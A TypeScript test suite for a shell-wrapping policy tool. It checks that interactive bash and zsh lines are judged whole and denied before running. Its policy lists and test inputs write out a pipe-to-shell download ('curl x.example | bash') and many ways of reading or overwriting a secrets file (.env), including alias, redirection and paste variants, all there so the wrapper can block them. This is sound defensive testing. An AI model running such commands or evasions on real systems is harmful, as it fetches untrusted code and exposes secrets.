/** A line typed into a wrapped shell is judged as a whole before any of it runs, and the shell stays the shell that it was. */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, renameSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, afterEach, before, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import { createSandbox, PROGRAM, type Sandbox, sandboxEnvironment } from '../support/patchwork.ts';
import { NO_TMUX, openTerminal, type Terminal } from '../support/tmux.ts';

const POLICY = `version: 1
mode: fail-open
rules:
  commands:
    deny: ["curl * | bash", "uname -a"]
  files:
    deny: [".env"]
`;
const CLOSED = `version: 1
mode: fail-closed
rules:
  commands:
    allow: ["cat *", "ls *"]
  files:
    allow: ["src/**"]
`;

let sandbox: Sandbox;
let at: Terminal;
before(() => {
  sandbox = createSandbox('typed');
  sandbox.write('typed.yml', POLICY);
  sandbox.write('closed.yml', CLOSED);
  sandbox.write('src/x', 'text of x\n');
  const rc = "PS1='> '\nalias leak='cat < .env'\nalias many='cat src/x | cat | cat'\ngreet() { echo \"greetings $1\"; }\n";
  sandbox.write(`${sandbox.home}/.bashrc`, `${rc}HISTFILE=~/.bash_history\n`);
  sandbox.write(`${sandbox.home}/.zshrc`, `${rc}HISTFILE=~/.zsh_history HISTSIZE=100\nsetopt interactive_comments\n`);
});
after(async () => {
  // The sessions whose terminals were closed write the ends of their logs.
  await pause(1000);
  sandbox.remove();
});
afterEach(() => at?.close());

async function open(shell: string, options = '--policy typed.yml'): Promise<void> {
  sandbox.write('.env', 'SECRET-OF-ENV\n');
  // `cat` holds the screen when the shell has ended.
  at = openTerminal(`"${process.execPath}" "${PROGRAM}" run -q ${options} ${shell}; echo session over; cat`, { cwd: sandbox.project, env: sandboxEnvironment(sandbox.home, { TERM: 'xterm-256color' }), columns: 150, rows: 50 });
  await at.expect(/^> $/m);
}

/** Types lines and gives what came on the screen for the last of them, once the prompt is back. */
async function type(...lines: readonly string[]): Promise<string> {
  for (const [index, text] of lines.entries()) {
    if (index === lines.length - 1) {
      at.keys('C-l');
      await at.expect(/^>\s*$/);
    }
    at.type(text);
    at.keys('Enter');
    if (index < lines.length - 1) await pause(250);
  }
  return await at.expect(/^(?!>)[\s\S]*^> \s*$|^>[\s\S]*^> \s*$/m);
}

const typedEvents = () => (existsSync(join(sandbox.home, '.patchwork')) ? sandbox.events() : []).filter(({ decision }) => decision.pep === 'shell');

const shells = ['bash', 'zsh'].map((name) => ({ name, skip: spawnSync(name, ['--version']).error === undefined ? NO_TMUX : `${name} is not installed` }));

const DENIED: readonly (readonly [text: string, hit: RegExp])[] = [
  ['curl x.example | bash', /denied command_execute `curl x\.example \| bash`\n {2}rule: commands\.deny: curl \* \| bash/],
  ['git log > .env', /denied command_execute `git log > \.env`\n {2}rule: files\.deny: \.env/],
  ['cat < .env', /rule: files\.deny: \.env/],
  ['{ cat; } < .env', /rule: files\.deny: \.env/],
  ['while read -r line; do echo "$line"; done < .env', /rule: files\.deny: \.env/],
  ['( : ) > .env', /rule: files\.deny: \.env/],
  ['echo "$(< .env)"', /rule: files\.deny: \.env/],
  ['greet x > .env', /rule: files\.deny: \.env/],
  ['leak', /denied command_execute `cat < \.env`/],
  ['f=.env; cat < $f', /rule: files\.deny: \.env/],
  ['true; uname -a', /rule: commands\.deny: uname -a/],
];

for (const { name, skip } of shells) {
  test(`${name}: what is denied as a whole does not run, with its reason, status 126 and the next prompt`, { skip, timeout: 90_000 }, async () => {
    await open(name);
    const earlier = typedEvents().length;
    for (const [text, hit] of DENIED) {
      const shown = await type(`cd .`, text);
      assert.match(shown, hit, text);
      assert.ok(shown.startsWith(`> ${text}\npatchwork: denied `), `${text}:\n${shown}`);
      assert.equal(shown.split('\n> ').length, 2, `${text}: exactly one prompt follows\n${shown}`);
      assert.doesNotMatch(shown, /SECRET|_patchwork/);
      assert.match(await type('echo "status $?"'), /^status 126$/m, text);
    }
    assert.equal(readFileSync(join(sandbox.project, '.env'), 'utf8'), 'SECRET-OF-ENV\n');
    const typed = typedEvents().slice(earlier);
    assert.equal(typed.length, DENIED.length);
    assert.ok(typed.every(({ status }) => status === 'denied'));
  });

  test(`${name}: an allowed line is logged once for each command, as ever`, { skip }, async () => {
    await open(name);
    const commands = (): string[] => sandbox.events().map(({ target }) => target.command ?? '').filter((command) => /^cat (?:src|-n)/.test(command));
    const earlier = commands().length;
    await type('cat src/x | cat -n');
    assert.deepEqual(commands().slice(earlier).sort(), ['cat -n', 'cat src/x']);
  });

  test(`${name}: variables of the shell are known where a line uses them`, { skip }, async () => {
    await open(name);
    assert.match(await type('name=.env', 'cat < $name'), /files\.deny: \.env/);
    assert.match(await type('name=src/x', 'cat < "${name}"'), /^text of x$/m);
  });

  test(`${name}: several lines are one command, and nothing of it runs before the last`, { skip, timeout: 60_000 }, async () => {
    await open(name);
    const lines = async (...all: string[]): Promise<string> => {
      at.keys('C-l');
      await at.expect(/^>\s*$/);
      for (const each of all) {
        at.type(each);
        at.keys('Enter');
        await pause(250);
      }
      return await at.expect(/\n> \s*$/);
    };
    assert.match(await lines('for i in 1 2; do', 'echo "round $i"', 'done'), /^round 1\nround 2$/m);
    assert.match(await lines('cat <<END', 'doc $((40 + 2))', 'END'), /^doc 42$/m);
    assert.match(await lines("echo 'first", "second'"), /^first\nsecond$/m);
    assert.match(await lines('echo joined \\', 'line'), /^joined line$/m);
    assert.match(await lines('true &&', 'echo after'), /^after$/m);
    assert.match(await lines('if true; then echo "sec""ond"', 'cat < .env', 'fi'), /files\.deny: \.env/);
    at.keys('C-c');
    await pause(250);
    assert.doesNotMatch(await lines('for i in 1; do', 'cat <<END', 'x', 'END', 'done > .env'), /^x$(?![\s\S]*END)/m);
    at.keys('C-c');
    await pause(250);
    assert.equal(readFileSync(join(sandbox.project, '.env'), 'utf8'), 'SECRET-OF-ENV\n');
    assert.match(await lines('echo fresh'), /^fresh$/m);
  });

  test(`${name}: Ctrl-C at the prompt, Ctrl-Z, fg, history and completion are as they were`, { skip, timeout: 60_000 }, async () => {
    await open(name);
    at.type('uname -a and more');
    await at.expect(/and more$/m);
    at.keys('C-c');
    await at.expect(/and more(?:\^C)?\n> $/m);
    assert.match(await type('echo "status $?"'), /^status (?:130|1)$/m);
    at.type('sleep 30');
    at.keys('Enter');
    await pause(500);
    at.keys('C-z');
    await at.expect(/(?:Stopped|suspended)\s+sleep 30/);
    at.type('fg');
    at.keys('Enter');
    await pause(500);
    at.keys('C-c');
    await type('curl x | bash');
    const history = await type('fc -l -6');
    assert.match(history, /\tcurl x \| bash$|^ *\d+ +curl x \| bash$/m);
    assert.doesNotMatch(history, /_patchwork/);
    at.keys('Up', 'Up');
    await at.expect(/^> curl x \| bash$/m);
    at.keys('C-u');
    at.type('cat src/');
    at.keys('Tab');
    await at.expect(/^> cat src\/x/m);
    at.keys('Enter');
    await at.expect(/^text of x$/m);
  });

  test(`${name}: under fail-closed functions, aliases and typing errors are no commands, and the rest is`, { skip, timeout: 60_000 }, async () => {
    await open(name, '--policy closed.yml --allow-degraded');
    assert.match(await type('greet you'), /^greetings you$/m);
    assert.match(await type('many'), /^text of x$/m);
    assert.match(await type('gti status'), /command not found/);
    assert.match(await type('cat src/x > elsewhere'), /denied command_execute[\s\S]*`> elsewhere`/);
    assert.match(await type('for i in 1 2; do echo "n $i"; done'), /^n 1\nn 2$/m);
    assert.match(await type('wc src/x'), /denied command_execute `wc src\/x`/);
    for (const each of ['for i in 1 2; do', 'echo "m $i"']) {
      at.type(each);
      at.keys('Enter');
      await pause(400);
    }
    at.type('done');
    at.keys('Enter');
    assert.match(await at.expect(/^m 1\nm 2\n> $/m), /^m 1$/m);
    assert.deepEqual(sandbox.events().filter(({ status, target }) => status === 'denied' && target.command?.includes('noprofile')), []);
    assert.match(await type('f=src/x; greet x; cat < $f'), /^text of x$|is not known before it runs/m);
    assert.ok(!existsSync(join(sandbox.project, 'elsewhere')));
  });

  test(`${name}: without the evaluator every line is denied`, { skip }, async () => {
    await open(name);
    const shown = await type('echo "${PATH%%:*}"');
    const runtime = dirname(/^(\/\S+\/bin)$/m.exec(shown)?.[1] ?? '');
    assert.ok(existsSync(join(runtime, 'sock')), shown);
    renameSync(join(runtime, 'sock'), join(runtime, 'away'));
    assert.match(await type('echo "ran"'), /evaluator of this session cannot be reached[\s\S]*denied/);
    renameSync(join(runtime, 'away'), join(runtime, 'sock'));
    assert.match(await type('echo "ran"'), /^ran$/m);
  });
}

const bash = shells[0]?.skip ?? false;

test("bash: the user's PROMPT_COMMAND, DEBUG trap, set -x and last argument see nothing of it", { skip: bash, timeout: 60_000 }, async () => {
  await open('bash');
  assert.match(await type('PROMPT_COMMAND=\'echo "prompt $?"\'; false', 'echo "$PROMPT_COMMAND"'), /^echo "prompt \$\?"\nprompt 0$/m);
  assert.match(await type('PROMPT_COMMAND=()', 'echo a "last word"', 'echo "[$_]"'), /^\[last word\]$/m);
  assert.match(await type("trap 'echo \"debug $BASH_COMMAND\"' DEBUG", 'echo trapped'), /^> echo trapped\ndebug echo trapped\ntrapped\n> $/m);
  assert.match(await type('trap - DEBUG; set -x', 'echo traced'), /^> echo traced\n\+ echo traced\ntraced\n> $/m);
  assert.match(await type('set +x; set -u', 'echo "still here"'), /^still here$/m);
});

test('bash: HISTCONTROL and HISTIGNORE hold, history expansion and vi mode work', { skip: bash, timeout: 60_000 }, async () => {
  await open('bash');
  await type('HISTCONTROL=ignorespace HISTIGNORE="uname*"', ' curl hidden | bash', 'uname -a', 'curl seen | bash');
  const history = await type('history 6');
  assert.match(history, /curl seen/);
  assert.doesNotMatch(history, /hidden|uname -a|_patchwork/);
  assert.match(await type('echo word', 'echo again !!:1'), /^again word/m);
  assert.match(await type('!no-such-event'), /event not found/);
  assert.match(await type('cat .e""nv; true', 'cat < !no'), /event not found/);
  for (const text of ['set -o vi', 'echo "in ""vi mode"', 'cat < .env']) {
    at.type(text);
    at.keys('Enter');
    await pause(250);
  }
  await at.expect(/^in vi mode$[\s\S]*files\.deny/m);
});

test('zsh: widgets of the user around Enter, before and after ours, go on working', { skip: shells[1]?.skip ?? false, timeout: 60_000 }, async () => {
  const file = join(sandbox.home, '.zshrc');
  const plain = readFileSync(file, 'utf8');
  sandbox.write(file, `${plain}
early() { print -r -- "early $BUFFER" >> ${sandbox.home}/seen; zle .accept-line }
zle -N accept-line early
wrap_late() { precmd_functions=(\${precmd_functions:#wrap_late}); zle -A accept-line before-late; zle -N accept-line late }
late() { print -r -- "late $BUFFER" >> ${sandbox.home}/seen; zle before-late }
precmd_functions+=(wrap_late)
`);
  await open('zsh');
  assert.match(await type('echo a""b'), /^ab$/m);
  assert.match(await type('echo c""d'), /^cd$/m);
  assert.match(await type('cat < .env'), /files\.deny: \.env/);
  sandbox.write(file, plain);
  assert.match(readFileSync(join(sandbox.home, 'seen'), 'utf8'), /^(?:early|late) echo c""d$/m);
});

test('bash: several lines pasted at once are judged before the first runs', { skip: bash }, async () => {
  await open('bash');
  at.paste('echo "pasted one"\ncat < .env\necho "pasted two"');
  at.keys('Enter');
  const shown = await at.expect(/files\.deny: \.env/);
  assert.doesNotMatch(shown, /^pasted one$/m);
});

test('bash: what comes out of the editor comes back to the line', { skip: bash }, async () => {
  sandbox.write('editor.sh', 'echo "cat < .env" > "$1"\n');
  await open('bash');
  await type('export VISUAL="sh ./editor.sh"');
  at.keys('C-x', 'C-e');
  await at.expect(/^> cat < \.env$/m);
  at.keys('Enter');
  await at.expect(/files\.deny: \.env/);
});

test('bash: a line of 50 KB is judged like any other', { skip: bash, timeout: 60_000 }, async () => {
  await open('bash');
  at.paste(`echo ${'word '.repeat(10_000)} | wc -w`);
  at.keys('Enter');
  await at.expect(/^10000$/m, 20_000);
  at.paste(`echo ${'word '.repeat(10_000)} > .env`);
  at.keys('Enter');
  await at.expect(/files\.deny: \.env/, 20_000);
});

test('bash: options that choose or leave out start-up files change nothing about it', { skip: bash, timeout: 60_000 }, async () => {
  for (const options of ['-l', '--norc', '--rcfile typed-rc', '--noprofile -i']) {
    sandbox.write('typed-rc', 'PS1="> "\n');
    at = openTerminal(`"${process.execPath}" "${PROGRAM}" run -q --policy typed.yml bash ${options}`, { cwd: sandbox.project, env: sandboxEnvironment(sandbox.home) });
    await at.expect(/[>$#] $/m);
    at.type('cat < .env');
    at.keys('Enter');
    await at.expect(/files\.deny: \.env/);
    at.close();
  }
});

test('the names of leftover helper files', () => {
  assert.deepEqual(readdirSync(sandbox.project).filter((name) => !['.env', '.git', 'closed.yml', 'editor.sh', 'src', 'typed-rc', 'typed.yml'].includes(name)), []);
});
